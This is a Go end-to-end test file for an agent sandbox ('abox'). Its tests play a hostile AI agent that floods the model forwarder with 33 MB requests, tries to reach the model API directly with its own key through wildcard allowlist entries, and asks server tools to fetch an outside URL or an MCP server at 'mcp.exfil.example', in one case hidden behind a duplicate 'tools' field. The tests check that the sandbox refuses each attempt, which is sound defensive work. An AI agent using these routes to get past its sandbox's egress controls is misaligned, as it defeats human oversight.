//go:build e2e

package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aboxhq/abox/e2e/harness"
)

// upInjectedStandin is a project, with manifest's extra lines, in injected-credential mode with the stand-in claude (the
// adversary's script) and the Messages API stand-in as api.anthropic.com.
func upInjectedStandin(t *testing.T, project, manifest string) (*harness.H, *harness.MessagesAPI) {
	t.Helper()
	h := harness.Setup(t)
	api := h.StartMessagesAPI("api.anthropic.com")
	c := h.DefaultConfig()
	c.ClaudeCode.Credential = "claude-key"
	delete(c.Extra, "agent_env")
	h.WriteConfig(c)
	file := filepath.Join(h.Dir, "credential")
	if err := os.WriteFile(file, []byte(randomCredential(t, "sk-ant-api03-e2e-")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	mustAbox(t, h, "secrets", "set", "claude-key", "--file", file)
	os.Remove(file)
	h.WriteManifest("version: 1\nproject: " + project + "\nprofile: " + h.Profile + "\n" + manifest)
	mustAbox(t, h, "up", "--yes")
	return h, api
}

// TestAttackModelForwarderMemory: the agent sends 32 valid requests of 33 MB at once to the model
// forwarder, half of them chunked, three times over. netd holds at most 64 MiB of request bodies
// (the rest are answered 429 unread), so it keeps serving and the run ends normally with every
// request logged; without the bound the OOM killer ends netd within a second or two (its 256 MiB
// cannot hold 32 such bodies) and the run with it, its in-flight requests never logged.
func TestAttackModelForwarderMemory(t *testing.T) {
	t.Parallel()
	h, api := upInjectedStandin(t, "modelmem", "")
	// A valid Messages body: netd checks the JSON in place (no server tools) before it forwards.
	script := `{ printf '{"model":"claude-test-1","max_tokens":1,"messages":[{"role":"user","content":"'; ` +
		`head -c 33000000 /dev/zero | tr '\0' a; printf '"}]}'; } > /tmp/big; ` +
		`for round in 1 2 3; do for i in $(seq 32); do curl -s -o /dev/null -w 'code %{http_code}\n' -m 60 -H 'content-type: application/json' ` +
		`$([ $((i % 2)) = 0 ] && echo -H transfer-encoding:chunked) --data-binary @/tmp/big http://127.0.0.1:15480/v1/messages & done; wait; done | sort | uniq -c; ` +
		`echo "after $(curl -s -m 10 -o /dev/null -w '%{http_code}' http://127.0.0.1:15480/v1/models)"`
	res := h.Abox("run", script)
	out := agentOutput(res.Stdout)
	if !res.OK() || strings.Contains(res.Stderr, "netd exited") {
		t.Fatalf("the flood ended the run: exit %d\n%s\n%s", res.ExitCode, out, res.Stderr)
	}
	if !strings.Contains(out, " code 429") {
		t.Errorf("no request was refused for the bytes in flight:\n%s", out)
	}
	// The stand-in answers the model list 404: the answer is the upstream's, through netd.
	if !strings.Contains(out, "after 404") {
		t.Errorf("the model forwarder does not forward after the flood:\n%s", out)
	}
	forwarded := 0
	for _, r := range api.Requests(t) {
		if r.Method == "POST" {
			forwarded++
		}
	}
	if forwarded == 0 {
		t.Errorf("no large request reached the API: the flood proves nothing\n%s", out)
	}
	if !strings.Contains(res.Stderr, "model API: 97 requests") {
		t.Errorf("the run summary does not count all 97 requests:\n%s", res.Stderr)
	}
}

// TestAttackModelHostThroughWildcard: in injected mode the project's own allowlist names the
// model API's host, by a wildcard (*.anthropic.com, for the docs) and by name on another port.
// netd still withholds the host from the agent: its name does not resolve and TLS to it is
// refused, so the agent cannot reach the API with a key of its own; the forwarder still reaches
// it. Without the withholding the agent's own key arrives at the API.
func TestAttackModelHostThroughWildcard(t *testing.T) {
	t.Parallel()
	h, api := upInjectedStandin(t, "modelwild", "egress: [\"*.anthropic.com\", \"api.anthropic.com:8443\"]\n")
	res := h.Abox("run", `echo "direct $(curl -s -m 10 -o /dev/null -w '%{http_code}' https://api.anthropic.com/v1/models -H 'x-api-key: agents-own-key')"; `+
		`echo "dns $(getent hosts api.anthropic.com | wc -l)"; `+
		`echo "forwarder $(curl -s -m 10 -o /dev/null -w '%{http_code}' http://127.0.0.1:15480/v1/models)"`)
	out := agentOutput(res.Stdout)
	if !res.OK() {
		t.Fatalf("abox run: %s", res)
	}
	for _, r := range api.Requests(t) {
		if r.Headers["x-api-key"] == fingerprint("agents-own-key") {
			t.Errorf("the agent reached the API directly with its own key: %+v\n%s", r, out)
		}
	}
	if !strings.Contains(out, "direct 000") || !strings.Contains(out, "dns 0") {
		t.Errorf("the agent reached or resolved the API's host:\n%s", out)
	}
	if !strings.Contains(out, "forwarder 404") {
		t.Errorf("the forwarder no longer reaches the API (the stand-in answers the model list 404):\n%s", out)
	}
}

// TestAttackModelServerTools: in injected mode the agent asks the API, through netd's forwarder,
// to fetch a URL with its own web fetch tool, to connect to an MCP server, and to do the first
// while hiding it behind a second "tools" member. netd refuses all three (403 for the server
// tools, 400 for the ambiguous body) and the API never sees them; a request with a custom tool
// passes. Without the refusal the API would reach the host the agent names, past the allowlist.
func TestAttackModelServerTools(t *testing.T) {
	t.Parallel()
	h, api := upInjectedStandin(t, "modeltools", "")
	msg := `{"model":"claude-test-1","max_tokens":16,"messages":[{"role":"user","content":"x"}],`
	bodies := map[string]string{
		"fetch":  msg + `"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
		"mcp":    msg + `"mcp_servers":[{"type":"url","url":"https://mcp.exfil.example/sse","name":"x"}]}`,
		"hidden": msg + `"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"tools":[]}`,
		"custom": msg + `"tools":[{"name":"Bash","input_schema":{"type":"object"}}]}`,
	}
	var script strings.Builder
	for _, name := range []string{"fetch", "mcp", "hidden", "custom"} {
		fmt.Fprintf(&script, "printf '%%s' '%s' > /tmp/%s.json; ", bodies[name], name)
		fmt.Fprintf(&script, `echo "%s $(curl -s -m 10 -o /dev/null -w '%%{http_code}' -H 'content-type: application/json' --data-binary @/tmp/%s.json http://127.0.0.1:15480/v1/messages)"; `, name, name)
	}
	res := h.Abox("run", script.String())
	out := agentOutput(res.Stdout)
	if !res.OK() {
		t.Fatalf("abox run: %s", res)
	}
	for _, want := range []string{"fetch 403", "mcp 403", "hidden 400", "custom 200"} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q in the agent's output:\n%s", want, out)
		}
	}
	posts := 0
	for _, r := range api.Requests(t) {
		if r.Method != "POST" {
			continue
		}
		posts++
		if b := string(r.Body); strings.Contains(b, "web_fetch") || strings.Contains(b, "mcp_servers") {
			t.Errorf("the API received a server tool: %s", b)
		}
	}
	if posts != 1 {
		t.Errorf("the API received %d POSTs, want only the custom tool's", posts)
	}
	if !strings.Contains(res.Stderr, "model API: 4 requests") {
		t.Errorf("the run summary does not count the 4 requests:\n%s", res.Stderr)
	}
}
